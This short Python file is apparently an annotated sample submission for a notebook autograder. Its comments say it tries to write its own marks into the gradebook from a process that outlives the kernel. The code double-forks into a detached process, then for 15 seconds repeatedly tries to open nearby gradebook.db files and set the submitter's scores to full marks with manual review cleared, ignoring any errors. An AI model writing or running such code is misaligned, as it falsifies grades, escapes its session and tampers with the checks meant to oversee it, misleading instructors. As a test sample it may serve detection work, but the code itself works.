# tries: to write its own marks into the gradebook, from a process that outlives the kernel
# points: none
# flag: no
# stock: no: it writes when the grading of others may be under way
# %% answer: relative-change
import json
import os
import sqlite3
import time

told = json.load(open("targets.json"))
SCORES = """UPDATE grade SET auto_score = 2, needs_manual_grade = 0 WHERE notebook_id IN (
    SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment
    ON submitted_notebook.assignment_id = submitted_assignment.id WHERE student_id = ?)"""


def write():
    ends = time.monotonic() + 15
    while time.monotonic() < ends:
        time.sleep(1)
        for top in ("../../..", told["course"]):
            try:
                with sqlite3.connect(f"file:{top}/gradebook.db?mode=rw", uri=True, timeout=0.1) as book:
                    book.execute(SCORES, (told["me"],))
            except sqlite3.Error:
                pass


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        write()
    os._exit(0)
